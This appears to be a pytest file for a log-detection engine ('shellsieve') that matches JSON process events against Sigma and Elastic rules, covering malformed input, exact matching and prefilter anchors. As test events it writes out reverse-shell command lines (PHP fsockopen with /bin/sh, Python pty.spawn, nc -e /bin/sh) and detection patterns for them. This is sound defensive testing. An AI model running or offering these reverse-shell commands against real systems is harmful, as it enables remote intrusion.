"""The block matcher on hostile and unusual input: nothing lost, nothing crashes, hits stay exact."""

from __future__ import annotations

import json

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from conftest import PHP_FSOCKOPEN, PYTHON_PTY, WEB_SERVER_CHILD, rule_ids, run_events
from shellsieve.compile.ruleset import Ruleset
from shellsieve.run.match import BlockMatcher
from shellsieve.run.stats import Stats

PHP = "php -r '$s=fsockopen(\"10.10.10.10\",9001);'"
WEB_CHILD = {
    "event": {"category": ["process"], "type": ["start"]},
    "host": {"os": {"type": "linux"}},
    "user": {"name": "www-data"},
    "process": {"name": "whoami", "executable": "/usr/bin/whoami",
                "parent": {"name": "sh", "executable": "/bin/sh"}},
}


def _process(ruleset: Ruleset, data: bytes) -> tuple[list[bytes], Stats]:
    stats = Stats()
    out = BlockMatcher(ruleset, stats).process(data)
    return out.splitlines(), stats


class TestMalformed:
    def test_each_bad_line_is_wrapped_and_counted(self, shipped: Ruleset) -> None:
        """Not JSON, bad UTF-8, a JSON array, absurd nesting: each leaves as {"message"} and is counted."""
        deep = b'{"a":' + b"[" * 5000 + b"]" * 5000 + b"}"
        lines = [b"plain text", b'{"a": "\xff\xfe"}', b"[1,2]", deep, b"", b'{"ok":1}']
        out, stats = _process(shipped, b"\n".join(lines) + b"\n")
        assert len(out) == len(lines)
        docs = [msgspec.json.decode(x) for x in out]
        assert docs[0] == {"message": "plain text"}
        assert docs[1] == {"message": '{"a": "\ufffd\ufffd"}', "shellsieve": {"malformed": "invalid_utf8"}}
        assert docs[2] == {"message": "[1,2]"}
        assert docs[4] == {"message": ""}
        assert out[5] == b'{"ok":1}'
        assert stats.malformed["invalid_json"] == 2
        assert stats.malformed["invalid_utf8"] == 1
        assert stats.malformed["not_object"] == 1
        assert stats.malformed["too_deep"] == 1
        assert docs[3] == {"message": deep.decode()}

    @pytest.mark.parametrize("lines", [
        [b'{"a":1}{"b":2}', b""],             # as many objects as lines: a blank line and a line of two
        [b'{"a":1} \t{"b":2}', b"  \t"],       # the same with JSON whitespace between them
        [b'{"a":{"b":1}', b'}{"c":2}'],        # one object over two lines, then a line of two
        [b'{"a":1}', b'{"b":', b'2}{"c":3}'],
        # as many objects as lines, each line opening with `{` and separated as JSON allows: a line of
        # two, and one object over two lines (an array or a string spans the newline)
        [b'{"a":1}', b'{}, {}', b'{"x":[{}', b'{}]}'],
        [b'{}, {}', b'{"x":"', b'"}'],
        [b'{"a":[{}', b'{}]}', b'{"b":1}, {"c":2}'],
        [b'     {"a":[1', b'2]}', b'{}'],     # starts late, ends past its line
    ], ids=["blank", "whitespace", "split-object", "split-value", "two-and-split-array", "two-and-split-string",
            "split-then-two", "shifted"])
    def test_lines_that_are_not_one_object_each_are_wrapped(self, shipped: Ruleset, lines: list[bytes]) -> None:
        """A stream of valid JSON whose lines are not one object each: every such line is wrapped."""
        out, stats = _process(shipped, b"\n".join(lines) + b"\n")
        assert len(out) == len(lines) == stats.lines_out
        for raw, got in zip(lines, out):
            doc = msgspec.json.decode(got)
            try:
                ok = isinstance(msgspec.json.decode(raw), dict)
            except msgspec.DecodeError:
                ok = False
            assert (got == raw) if ok else (doc == {"message": raw.decode()})

    def test_braces_inside_a_command_line_are_not_malformed(self, shipped: Ruleset) -> None:
        """`} {` inside a string takes the slower exact check; the lines still leave byte for byte."""
        lines = [b'{"process":{"command_line":"awk \'{print $1} {print $2}\' f"}}', b'{"ok":1}']
        out, stats = _process(shipped, b"\n".join(lines) + b"\n")
        assert out == lines and sum(stats.malformed.values()) == 0

    def test_bad_candidate_line_is_wrapped(self, shipped: Ruleset) -> None:
        """A line that hits a prefilter literal but is not JSON is still forwarded and counted."""
        line = b'{"process": {"command_line": "php -r \'$s=fsockopen(\\"example.com\\",80);exec(\\"/bin/sh\\");\'" {broken'  # noqa: E501  one line, as read
        out, stats = _process(shipped, line + b"\n")
        assert msgspec.json.decode(out[0]) == {"message": line.decode()}
        assert stats.candidates == 1 and stats.malformed["invalid_json"] == 1

    @settings(max_examples=200, deadline=None)
    @given(st.lists(st.binary(max_size=200).map(lambda b: b.replace(b"\n", b"")), max_size=20))
    def test_any_bytes_every_line_out_as_json(self, shipped: Ruleset, lines: list[bytes]) -> None:
        """Whatever the bytes, every line comes back, once, in order, as a JSON object."""
        out, stats = _process(shipped, b"".join(x + b"\n" for x in lines))
        assert len(out) == len(lines) == stats.lines_out
        for raw, got in zip(lines, out):
            assert isinstance(msgspec.json.decode(got), dict)
            if got != raw:  # wrapped: the text of the line (a CR before the newline is line ending)
                assert msgspec.json.decode(got)["message"] == raw.rstrip(b"\r").decode("utf-8", "replace")


class TestExactness:
    def test_unicode_escapes_do_not_hide_a_match(self, shipped: Ruleset) -> None:
        """A command line spelled with \\uXXXX escapes still matches (the escape marker forces a decode)."""
        line = '{"process":{"command_line":"php -r \'$s=\\u0066sockopen(\\"10.0.0.1\\",9001);\'"}}'
        assert json.loads(line)["process"]["command_line"].startswith("php -r '$s=fsockopen(")
        docs = run_events(shipped, [line.encode()])
        assert rule_ids(docs[0]) == [PHP_FSOCKOPEN]

    def test_escaped_slash_does_not_hide_a_match(self, shipped: Ruleset) -> None:
        """`\\/` in a path is decoded before the rules look at it."""
        ev = dict(WEB_CHILD)
        line = msgspec.json.encode(ev).replace(b"/usr/bin/whoami", b"\\/tmp\\/x").replace(
            b'"whoami"', b'"x"')
        docs = run_events(shipped, [line])
        assert rule_ids(docs[0]) == [WEB_SERVER_CHILD]

    def test_flat_dotted_keys(self, shipped: Ruleset) -> None:
        """Events with flat dotted keys ("process.command_line") match like nested ones."""
        docs = run_events(shipped, [{"process.command_line": PHP}])
        assert rule_ids(docs[0]) == [PHP_FSOCKOPEN]

    def test_unexpected_field_shape_falls_back(self, shipped: Ruleset) -> None:
        """A rule field of an unexpected type (process.parent as a string) neither crashes nor loses the event."""
        ev = {"process": {"command_line": PHP, "parent": "bash"}}
        docs = run_events(shipped, [ev])
        assert rule_ids(docs[0]) == [PHP_FSOCKOPEN]

    def test_match_never_spans_two_lines(self, shipped: Ruleset) -> None:
        """Two lines that together would satisfy a rule do not match: each half is its own event."""
        a = {"process": {"command_line": "python -c 'import socket; s=socket.socket(); s.connect(x)"}}
        b = {"process": {"command_line": "os.dup2(s.fileno(),0); pty.spawn(\"sh\")'"}}
        docs = run_events(shipped, [a, b])
        assert rule_ids(docs[0]) == [] and rule_ids(docs[1]) == []

    def test_several_hits_give_arrays_in_rule_order(self, shipped: Ruleset) -> None:
        """An event two rules match lists both in rule order; rule.* and event.* describe the most
        severe; threat.* is the union as parallel arrays, sub-techniques under their parents."""
        ev = {"process": {"command_line": PHP + " ; python -c 'import socket,os,pty;s=socket.socket();"
                                                 "s.connect((\"h\",1));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'"}}
        docs = run_events(shipped, [ev])
        assert rule_ids(docs[0]) == [PHP_FSOCKOPEN, PYTHON_PTY]
        assert docs[0]["event"]["risk_score"] == 99
        assert docs[0]["rule"]["id"] == PHP_FSOCKOPEN  # level 15, critical; the other is high
        technique = docs[0]["threat"]["technique"]
        assert technique["id"] == ["T1059", "T1219", "T1105"]
        assert technique["subtechnique"]["id"] == ["T1059.004", "T1059.006"]
        assert technique["subtechnique"]["name"] == ["Unix Shell", "Python"]


class TestRegexAnchors:
    """User regexes are searches; start anchors anywhere in them keep their meaning behind the sentinel."""

    @pytest.mark.parametrize(("pattern", "value", "hit"), [
        ("a|^b", "xb", False), ("a|^b", "bx", True), ("a|^b", "xa", True),
        (r"(?:x|\Ay)z", "yz", True), (r"(?:x|\Ay)z", "ayz", False),
        ("(?m)^ev", "ok\nevil", True), ("(?m)^ev", "ok evil", False),
        (r"x\^y", "x^y", True), ("[^-]z", "-z", False), ("[^-]z", "az", True),
    ])
    def test_start_anchor_inside(self, pattern: str, value: str, hit: bool) -> None:
        from shellsieve.compile.ruleset import compile_rules
        from shellsieve.diagnostics import Location
        from shellsieve.model.expr import Op, Predicate
        from shellsieve.model.rule import Rule

        rule = Rule(id="r", name="r", ruleset="sigma", location=Location("t"),
                    query=Predicate("process.command_line", Op.REGEX, (pattern,), True))
        ruleset, diags = compile_rules([rule])
        assert not [d for d in diags if d.severity == "error"]
        assert rule_ids(run_events(ruleset, [{"process": {"command_line": value}}])[0]) == (["r"] if hit else [])


class TestCaselessBeyondAscii:
    """Hyperscan's caseless flag folds ASCII only; case-insensitive rules fold every letter."""

    @pytest.mark.parametrize("value", ["7в07", "7В07", "x.exe -В"])
    @pytest.mark.parametrize("op", ["contains", "endswith_or_contains"])
    def test_cyrillic_contains(self, value: str, op: str) -> None:
        from shellsieve.compile.ruleset import compile_rules
        from shellsieve.diagnostics import Location
        from shellsieve.model.expr import Op, Predicate
        from shellsieve.model.rule import Rule

        pred_op = Op.CONTAINS if op == "contains" else Op.WILDCARD
        pattern = "В" if op == "contains" else "*В*"
        rule = Rule(id="r", name="r", ruleset="sigma", location=Location("t"),
                    query=Predicate("process.command_line", pred_op, (pattern,), False))
        ruleset, _ = compile_rules([rule])
        assert rule_ids(run_events(ruleset, [{"process": {"command_line": value}}])[0]) == ["r"]


class TestAnchorClauses:
    """The raw prefilter: a line is decoded only when a whole anchor clause of a rule occurs in it, and
    never misses a line the rule matches (the differential tests check the latter on every public rule)."""

    @staticmethod
    def _rule(query: object) -> Ruleset:
        from shellsieve.compile.ruleset import compile_rules
        from shellsieve.diagnostics import Location
        from shellsieve.model.rule import Rule

        ruleset, diags = compile_rules([Rule(id="r", name="r", ruleset="eql", location=Location("t"), query=query)])
        assert not [d for d in diags if d.severity == "error"]
        return ruleset

    def test_conjunction_needs_every_set(self) -> None:
        from shellsieve.model.expr import AllOf, Op, Predicate

        rs = self._rule(AllOf((Predicate("process.parent.name", Op.EQ, ("apache2",), True),
                               Predicate("process.name", Op.EQ, ("bash", "sh"), True))))
        lines = [
            {"process": {"name": "bash", "parent": {"name": "sshd"}}},  # one set only: not decoded
            {"process": {"name": "ls", "parent": {"name": "apache2"}}},  # the other only: not decoded
            {"process": {"name": "bash", "parent": {"name": "apache2"}}},  # both: candidate, and a hit
            {"process": {"name": "apache2", "parent": {"name": "bash"}}},  # both literals, wrong fields
        ]
        out, stats = _process(rs, b"".join(msgspec.json.encode(x) + b"\n" for x in lines))
        assert stats.candidates == 2 and stats.alerts == 1
        assert [bool(rule_ids(json.loads(x))) for x in out] == [False, False, True, False]

    def test_value_literal_does_not_fire_on_a_key(self) -> None:
        """`"host"` as a value anchor must not make every line with a "host" key a candidate."""
        from shellsieve.model.expr import Op, Predicate

        rs = self._rule(Predicate("process.name", Op.EQ, ("host",), True))
        lines = [b'{"host": {"name": "a"}, "process": {"name": "dig"}}',
                 b'{"host":{"name":"a"},"process":{"name" : "host" }}',
                 b'{"process":{"name":["x","host"]}}']
        out, stats = _process(rs, b"".join(x + b"\n" for x in lines))
        assert stats.candidates == 2 and [bool(rule_ids(json.loads(x))) for x in out] == [False, True, True]

    def test_branches_each_need_their_own_clause(self) -> None:
        from shellsieve.model.expr import AllOf, AnyOf, Op, Predicate

        py = AllOf((Predicate("process.name", Op.WILDCARD, ("python*",), False),
                    Predicate("process.args", Op.WILDCARD, ("*pty*spawn*",), False)))
        nc = AllOf((Predicate("process.name", Op.EQ, ("nc",), True),
                    Predicate("process.args", Op.EQ, ("-e",), True)))
        rs = self._rule(AnyOf((py, nc)))
        lines = [
            {"process": {"name": "python3", "args": ["python3", "-e"]}},  # python + -e: no clause whole
            {"process": {"name": "nc", "args": ["nc", "-l"]}},
            {"process": {"name": "python3", "args": ["python3", "-c", "import pty;pty.spawn('sh')"]}},
            {"process": {"name": "nc", "args": ["nc", "-e", "/bin/sh"]}},
        ]
        out, stats = _process(rs, b"".join(msgspec.json.encode(x) + b"\n" for x in lines))
        assert stats.candidates == 2
        assert [bool(rule_ids(json.loads(x))) for x in out] == [False, False, True, True]

    def test_overlapping_sets_keep_the_selective_one(self) -> None:
        """`wget ` and a bare space may share the space, so they are not joined: the clause keeps
        `wget `, whatever the order of the rule's terms, and a line with spaces but no wget is not
        decoded. (The public Sigma rule "Obfuscated IP Download Activity" made every line a candidate.)"""
        from shellsieve.model.expr import AllOf, AnyOf, Op, Predicate

        rs = self._rule(AllOf((
            AnyOf((Predicate("process.command_line", Op.CONTAINS, ("http://%25%32%65",), False),
                   Predicate("process.command_line", Op.REGEX, (" [0-7]{7,13}",), True))),
            Predicate("process.command_line", Op.CONTAINS, ("wget ", "curl "), False))))
        lines = [{"process": {"command_line": "ls -la /tmp"}},
                 {"process": {"command_line": "wget http://x/ 01234567"}}]
        out, stats = _process(rs, b"".join(msgspec.json.encode(x) + b"\n" for x in lines))
        assert stats.candidates == 1 and [bool(rule_ids(json.loads(x))) for x in out] == [False, True]

    def test_low_cardinality_value_is_never_the_only_anchor_kept(self) -> None:
        """`host.os.type` is "linux" in nearly every line: where it cannot be joined with a selective
        set, the selective set is kept, and a line holding only "linux" is not a candidate."""
        from shellsieve.model.expr import AllOf, AnyOf, Op, Predicate

        rs = self._rule(AllOf((AnyOf((Predicate("host.os.type", Op.EQ, ("linux",), False),
                                      Predicate("host.os.type", Op.EQ, ("macos",), False))),
                               Predicate("process.command_line", Op.CONTAINS, ('abc"li',), False))))
        # raw, the literal is `abc\"li`: it may run into `"linux"`, so the two are not joined
        lines = [{"host": {"os": {"type": "linux"}}, "process": {"command_line": "ls"}},
                 {"host": {"os": {"type": "linux"}}, "process": {"command_line": 'echo abc"li'}}]
        out, stats = _process(rs, b"".join(msgspec.json.encode(x) + b"\n" for x in lines))
        assert stats.candidates == 1 and [bool(rule_ids(json.loads(x))) for x in out] == [False, True]

    def _candidates(self, query: object, events: list[dict[str, object]]) -> tuple[int, list[bool]]:
        rs = self._rule(query)
        out, stats = _process(rs, b"".join(msgspec.json.encode(x) + b"\n" for x in events))
        return stats.candidates, [bool(rule_ids(json.loads(x))) for x in out]

    def test_values_of_two_fields_are_joined(self) -> None:
        """`"./` may end where `/Downloads/` begins, but not when they are the values of two fields:
        a line needs both. (The Elastic ransomware-note sequence kept `/Downloads/`, `"/bin/` ...
        alone and was checked on every line with a /bin/bash parent.)"""
        from shellsieve.model.expr import AllOf, Op, Predicate

        query = AllOf((Predicate("file.path", Op.WILDCARD, ("/home/*/Downloads/*", "/bin/*"), False),
                       Predicate("process.executable", Op.WILDCARD, ("./*",), False)))
        events = [{"file": {"path": "/bin/ls"}, "process": {"executable": "/usr/bin/mv"}},
                  {"file": {"path": "/home/u/Downloads/a"}, "process": {"executable": "./x"}}]
        assert self._candidates(query, events) == (1, [False, True])

    def test_closing_quote_joins_a_literal_that_cannot_follow_it(self) -> None:
        """`/bash"` ends a value and ` -i ` cannot begin in what follows a value (blanks, then `,]}`):
        the two join even on one field, and a line holding `/bash"` alone is not decoded."""
        from shellsieve.model.expr import AllOf, Op, Predicate

        query = AllOf((Predicate("process.command_line", Op.ENDSWITH, ("/bash",), False),
                       Predicate("process.command_line", Op.CONTAINS, (" -i ",), False)))
        events = [{"process": {"command_line": "/bin/bash"}},
                  {"process": {"command_line": "sh -i -c /bin/bash"}}]
        assert self._candidates(query, events) == (1, [False, True])

    def test_a_wide_set_left_out_of_the_join_stays_exact(self) -> None:
        """Sixty long names are too wide to join with the parent (a slow scan): the names still
        anchor the clause on their own, and only a line with both fires."""
        from shellsieve.model.expr import AllOf, Op, Predicate

        names = tuple(f"very-long-tool-name-number-{i:03d}" for i in range(60))
        query = AllOf((Predicate("process.name", Op.EQ, names, True),
                       Predicate("process.parent.name", Op.EQ, ("apache2",), True)))
        events = [{"process": {"name": "ls", "parent": {"name": "apache2"}}},
                  {"process": {"name": names[59], "parent": {"name": "apache2"}}},
                  {"process": {"name": names[5], "parent": {"name": "sshd"}}},
                  {"process": {"name": names[0], "parent": {"name": "apache2"}}}]
        assert self._candidates(query, events) == (3, [False, True, False, True])

    def test_small_regex_alternatives_spell_the_anchor(self) -> None:
        """`-(W|R)` anchors on `-W` or `-R`, not on a bare `-` (the public Sigma rule "Pnscan Binary
        Data Transmission Activity" was a candidate on every line with a dash)."""
        from shellsieve.model.expr import AllOf, Op, Predicate

        query = AllOf((Predicate("host.os.type", Op.EQ, ("linux",), False),
                       Predicate("process.command_line", Op.REGEX, (r"-(W|R) [0-9a-f]{2}",), True)))
        events = [{"host": {"os": {"type": "linux"}}, "process": {"command_line": "ls -la"}},
                  {"host": {"os": {"type": "linux"}}, "process": {"command_line": "pnscan -R 6f"}}]
        assert self._candidates(query, events) == (1, [False, True])

    def test_any_of_is_as_selective_as_its_weakest_branch(self) -> None:
        """A long literal in one branch of an any-of must not rank it above `"wget"`: the other branch
        (`cat` and `.env`) would then be kept without `"wget"` (the Elastic rule "Potential Data
        Exfiltration Through Wget" was a candidate on every line with "cat" in it)."""
        from shellsieve.model.expr import AllOf, AnyOf, Op, Predicate

        cmd = "process.command_line"
        query = AllOf((Predicate("process.name", Op.EQ, ("wget",), True),
                       AnyOf((Predicate(cmd, Op.CONTAINS, ("--post-file-long",), True),
                              AllOf((Predicate(cmd, Op.CONTAINS, ("cat",), True),
                                     Predicate(cmd, Op.CONTAINS, (".env",), True)))))))
        events = [{"process": {"name": "cat", "command_line": "cat .env"}},
                  {"process": {"name": "wget", "command_line": "wget -O- x | cat .env"}}]
        assert self._candidates(query, events) == (1, [False, True])

    def test_a_later_step_is_a_candidate_only_while_a_partial_waits_for_it(self) -> None:
        """The last step `process.name == "ls"` fires its anchor on every `ls` line, but a line is
        decoded for it only once the first step (`curl`) has held for the same host, within the same
        block too (Elastic's Linux sequences end on steps any exec matches)."""
        from shellsieve.model.expr import Op, Predicate
        from shellsieve.model.rule import Sequence, Step

        query = Sequence(steps=(Step(Predicate("process.name", Op.EQ, ("curl",), True), ("host.id",)),
                                Step(Predicate("process.name", Op.EQ, ("ls",), True), ("host.id",))))
        t = iter(range(100))
        events = [{"@timestamp": f"2026-01-01T00:00:{next(t):02d}Z", "host": {"id": h},
                   "process": {"name": name}} for h, name in
                  [("a", "ls"), ("a", "ls"), ("a", "curl"), ("b", "ls"), ("a", "ls"), ("a", "ls")]]
        assert self._candidates(query, events) == (3, [False, False, False, False, True, False])

    def test_a_later_step_is_found_in_any_block_after_its_first(self) -> None:
        """A block where no partial is open and no first step fires drops its later-step hits
        unread. A partial opened in an earlier block, in the same block, or on a line with an
        escape (which spells the first step's name) still meets its later step."""
        from shellsieve.model.expr import Op, Predicate
        from shellsieve.model.rule import Sequence, Step

        query = Sequence(steps=(Step(Predicate("process.name", Op.EQ, ("curl",), True), ("host.id",)),
                                Step(Predicate("process.name", Op.EQ, ("ls",), True), ("host.id",))),
                         maxspan=30.0)
        rs = self._rule(query)

        def line(second: int, name: bytes) -> bytes:
            return b'{"@timestamp":"2026-01-01T00:00:%02dZ","host":{"id":"a"},"process":{"name":"%s"}}\n' % (
                second, name)

        blocks = [line(0, b"ls"),  # nothing open, no first step: this `ls` is dropped unread
                  line(1, b"curl"),  # opens a partial that the next block's `ls` completes
                  line(2, b"ls") + line(3, b"ls"),
                  line(4, b"cu\\u0072l") + line(5, b"ls"),  # an escaped first step, then in-block
                  line(40, b"ls")]  # the partial of 4 s expired (maxspan 30 s): not a candidate
        stats = Stats()
        fast, slow = BlockMatcher(rs, stats), BlockMatcher(rs, Stats(), prefilter=False)
        outs = [fast.process(b) for b in blocks]
        assert outs == [slow.process(b) for b in blocks]
        alerts = [bool(rule_ids(json.loads(x))) for out in outs for x in out.splitlines()]
        assert alerts == [False, False, True, False, False, True, False]
        assert stats.candidates == 4  # curl, ls, the escaped curl, ls (the sequence closed at 2 s)

    def test_field_scans_remembered_across_events_stay_exact(self, monkeypatch: pytest.MonkeyPatch) -> None:
        """A value's field scan is remembered for later events (names and paths recur on a host);
        the memo is bounded in entries and value length, forgets everything when full, and never
        changes a verdict."""
        from shellsieve.model.expr import Op, Predicate
        from shellsieve.run import match

        monkeypatch.setattr(match, "MEMO_ENTRIES", 8)
        monkeypatch.setattr(match, "MEMO_MAX_CHARS", 20)
        # a regex: the field database decides it (a plain `*nc*-e*` is decided in Python, compile/globs.py)
        query = Predicate("process.command_line", Op.REGEX, ("nc.*-e",), True)
        # every line holds the anchor (the regex itself, written over raw lines) in another field;
        # the verdict depends on the order in the command line
        values = [f"v{i % 5} " + ("nc -e" if i % 3 == 0 else "-e nc") for i in range(40)]
        values += [f"u{i} nc -e" for i in range(12)] + values  # past 8 values the memo starts over
        values += ["z" * 30 + " nc -e", "z" * 30 + " -e nc", "z" * 30 + " nc -e"]  # too long to be remembered
        lines = [msgspec.json.encode({"process": {"command_line": v}, "note": "nc -e"}) for v in values]
        assert self._raw(query, lines) == (len(values), [v.endswith("nc -e") for v in values])

    def test_a_regex_without_literals_is_its_own_anchor(self) -> None:
        """The Elastic rule "Potential Linux Tunneling and/or Port Forwarding" has a regex of digits,
        dots and colons only (no literal longer than `.`); those bytes are never escaped, so the
        regex itself anchors the rule instead of "process" and "linux", on every line before."""
        from shellsieve.model.expr import AllOf, Op, Predicate

        ip = r"[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}"
        query = AllOf((Predicate("host.os.type", Op.EQ, ("linux",), True),
                       Predicate("process.command_line", Op.REGEX, (rf"(?s)\A(?:.*{ip}:[0-9]{{1,5}}:{ip}.*)\z",),
                                 True)))
        events = [{"host": {"os": {"type": "linux"}}, "process": {"command_line": "ssh -L 8080 10.0.0.1"}},
                  {"host": {"os": {"type": "linux"}}, "process": {"command_line": "ssh -L 1.2.3.4:80:5.6.7.8 x"}},
                  {"host": {"os": {"type": "linux"}}, "process": {"command_line": "x 1.2.3.4:80:5.6.7.8\t\"y\""}},
                  {"host": {"os": {"type": "linux"}}, "process": {"command_line": "1.2.3.4:80:5.6.7"}}]
        assert self._candidates(query, events) == (2, [False, True, True, False])

    def _raw(self, query: object, lines: list[bytes]) -> tuple[int, list[bool]]:
        """Candidates and alerts of the fast path on raw lines, which must equal decoding them all."""
        rs = self._rule(query)
        block = b"".join(x + b"\n" for x in lines)
        stats = Stats()
        out = BlockMatcher(rs, stats).process(block)
        assert out == BlockMatcher(rs, Stats(), prefilter=False).process(block)
        return stats.candidates, [bool(rule_ids(json.loads(x))) for x in out.splitlines()]

    def test_a_literal_counts_only_in_a_value_under_its_key(self) -> None:
        """`/usr/bin/` is in the executable of nearly every process event; a rule on the command line
        decodes only lines where it lies in a string under a `command_line` key (the Sigma rule
        "Potential Suspicious Change To Sensitive/Critical Files" was checked on every line)."""
        from shellsieve.model.expr import Op, Predicate

        query = Predicate("process.command_line", Op.CONTAINS, ("/usr/bin/",), True)
        lines = [b'{"process":{"executable":"/usr/bin/ls","command_line":"ls"}}',
                 b'{"process":{"command_line":"ls /usr/bin/"}}',
                 b'{"process.command_line" :\t"x \\"q\\" \\\\ /usr/bin/"}',  # flat, blanks, escapes
                 b'{"process":{"command_line":["a", "/usr/bin/x"]}}',  # an array's element
                 b'{"process":{"command_line":"a\\\\","x":"/usr/bin/"}}',  # `\\` before the quote
                 b'{"process":{"command_line":"ls","/usr/bin/x":1}}',  # in a key
                 b'{"process":{"parent":{"command_line":"/usr/bin/x"}}}',  # the same key elsewhere
                 b'{"process":{"xcommand_line":"/usr/bin/x"}}']
        assert self._raw(query, lines) == (4, [False, True, True, True, False, False, False, False])

    def test_a_key_check_gives_up_after_a_bounded_walk(self) -> None:
        """The walk back to a string's opening quote is bounded: past 16 escaped quotes (or 64
        backslashes or blanks) the check says candidate, so a hostile line of `\\"` repeated before
        a literal that hits as often is linear (an 88 KB one took 15 s before), and nothing is missed."""
        from shellsieve.model.expr import Op, Predicate

        query = Predicate("process.command_line", Op.CONTAINS, ("/usr/bin/",), True)
        lines = [b'{"process":{"command_line":"' + b'\\"' * 100 + b'/usr/bin/"}}',  # holds: still found
                 b'{"process":{"x":"' + b'\\"' * 100 + b'/usr/bin/"}}',  # gave up: decoded, no alert
                 b'{"process":{"x":"' + b'\\"' * 10 + b'/usr/bin/"}}']  # walked: under "x", not decoded
        assert self._raw(query, lines) == (2, [True, False, False])

    def test_a_number_anchor_holds_every_spelling_of_the_number(self) -> None:
        """33 is `33`, `3.3e1`, `330e-1` or "33" to the confirm (numbers compare by value): the
        anchor is its digits with an optional point, delimited, under the key. `1033`, or a 33
        under another key, is not decoded."""
        from shellsieve.model.expr import Op, Predicate

        query = Predicate("user.id", Op.EQ, (33,), True)
        lines = [b'{"user":{"id":33}}', b'{"user":{"id":3.3e1}}', b'{"user":{"id": 330E-1 }}',
                 b'{"user":{"id":"33"}}', b'{"user":{"id":[1,33.0]}}', b'{"user":{"id":1033}}',
                 b'{"user":{"id":34,"n":33}}', b'{"user":{"id":"x33"}}']
        assert self._raw(query, lines) == (5, [True] * 5 + [False] * 3)

    def test_a_join_counts_where_its_keyed_set_is_under_its_key(self) -> None:
        """`"/home/` joined with "process" fired on every line with a /home/ working directory; the
        join now also needs one of its first set's literals under `executable` (three Elastic
        privilege-escalation sequences were checked on every line)."""
        from shellsieve.model.expr import AllOf, Op, Predicate

        query = AllOf((Predicate("event.category", Op.EQ, ("process",), True),
                       Predicate("process.executable", Op.WILDCARD, ("/home/*", "/tmp/*"), True)))
        lines = [b'{"event":{"category":["process"]},"process":{"executable":"/bin/ls","working_directory":"/home/u"}}',
                 b'{"event":{"category":["process"]},"process":{"executable":"/home/u/x","working_directory":"/"}}',
                 b'{"event":{"category":"process"},"process":{"working_directory":"/tmp/","executable":"/tmp/y"}}']
        assert self._raw(query, lines) == (2, [False, True, True])

    def test_a_keyed_set_that_opens_the_value_is_read_after_its_key(self) -> None:
        """A first set whose literals all open the value (`"/tmp/`) is checked right after the key
        and colon, with blanks, flat keys and arrays; another key ending in the same word, or the
        key spelled inside a string, does not count."""
        from shellsieve.model.expr import AllOf, Op, Predicate

        query = AllOf((Predicate("event.category", Op.EQ, ("process",), True),
                       Predicate("process.executable", Op.WILDCARD, ("/home/*", "/tmp/*"), False)))
        cat = b'{"event":{"category":["process"]},'
        lines = [cat + b'"process":{"executable" :\t"/TMP/x"}}',
                 cat + b'"process.executable":"/home/a"}',
                 cat + b'"process":{"executable":["/bin/a","/tmp/b"]}}',
                 cat + b'"process":{"parent_executable":"/tmp/x","executable":"/bin/ls"}}',
                 cat + b'"process":{"command_line":"x \\"executable\\":\\"/tmp/y\\"","executable":"/bin/ls"}}']
        assert self._raw(query, lines) == (3, [True, True, True, False, False])

    @pytest.mark.parametrize(("value", "event"), [
        ("kill", "\u212aill"),      # the Kelvin sign casefolds to an ASCII k
        ("pass", "pa\u00df"),       # ß casefolds to "ss"
        ("stra\u00dfe", "STRASSE"),
        ("\u03c3x", "\u03c2X"),     # final sigma and sigma fold alike
        ("bash", "BaSh")])
    def test_a_caseless_equal_is_found_however_the_event_folds(self, value: str, event: str) -> None:
        """A caseless equality compares casefolded strings; the anchor is the casefolded value with
        every character folding to each of its characters, and a line holding a character that
        folds to ASCII or to several characters is a candidate for every rule."""
        from shellsieve.model.expr import Op, Predicate

        query = Predicate("process.name", Op.EQ, (value,), False)
        assert self._raw(query, [msgspec.json.encode({"process": {"name": event}})]) == (1, [True])

    @settings(max_examples=300, deadline=None)
    @given(st.recursive(
        st.one_of(st.integers(-40, 40), st.sampled_from([33.0, 3.3, 330, 0.5]),
                  st.lists(st.sampled_from(list('ab /:,"\\[]{}') + ["/usr/bin/", "33", "command_line"]),
                           max_size=8).map("".join)),
        lambda inner: st.one_of(st.lists(inner, max_size=3),
                                st.dictionaries(st.sampled_from(["process", "command_line", "id", "user", "x",
                                                                 "process.command_line", "user.id"]),
                                                inner, max_size=3)),
        max_leaves=12), st.randoms(use_true_random=False))
    def test_keyed_anchors_never_miss_a_match(self, doc: object, rng: object) -> None:
        """Any shape of JSON, any odd spacing: the keyed anchors give what decoding every line gives."""
        import random

        from shellsieve.model.expr import AnyOf, Op, Predicate
        from test_diff_fastpath import messy

        if not isinstance(doc, dict):
            doc = {"process": doc}
        query = AnyOf((Predicate("process.command_line", Op.CONTAINS, ("/usr/bin/",), True),
                       Predicate("user.id", Op.EQ, (33,), True)))
        assert isinstance(rng, random.Random)
        self._raw(query, [msgspec.json.encode(doc), messy(doc, rng, 0.0).encode()])

    @settings(max_examples=300, deadline=None)
    @given(st.recursive(
        st.one_of(st.sampled_from(["/tmp/x", "/HOME/y", "/bin/z"]),
                  st.lists(st.sampled_from(list('a /:,"\\[]{}') + ["/tmp/", "/HOME/", "executable", '"/tmp/']),
                           max_size=6).map("".join)),
        lambda inner: st.one_of(st.lists(inner, max_size=3),
                                st.dictionaries(st.sampled_from(["process", "executable", "parent_executable",
                                                                 "process.executable", "x"]),
                                                inner, max_size=3)),
        max_leaves=10), st.randoms(use_true_random=False))
    def test_value_opening_keyed_sets_never_miss_a_match(self, doc: object, rng: object) -> None:
        """The join of a first set that opens the value (checked by one regex from the key) gives
        what decoding every line gives, on any shape and spacing."""
        import random

        from shellsieve.model.expr import AllOf, Op, Predicate
        from test_diff_fastpath import messy

        doc = {"event": {"category": "process"}, "process": doc}
        query = AllOf((Predicate("event.category", Op.EQ, ("process",), True),
                       Predicate("process.executable", Op.WILDCARD, ("/home/*", "/tmp/*"), False)))
        assert isinstance(rng, random.Random)
        self._raw(query, [msgspec.json.encode(doc), messy(doc, rng, 0.0).encode()])


def test_safe_regex_refuses_what_json_or_python_could_spell_otherwise() -> None:
    """A regex anchors on its own only if each match is the same bytes in the raw line."""
    from shellsieve.compile.anchors import _regex_literal, _safe_regex

    import re

    found = _safe_regex(r"[0-9]{2}:[0-9]{2}")
    assert found is not None and found[1] == 5
    assert re.search(found[0], b'"at 12:34"') and not re.search(found[0], b'"at 1:34"')
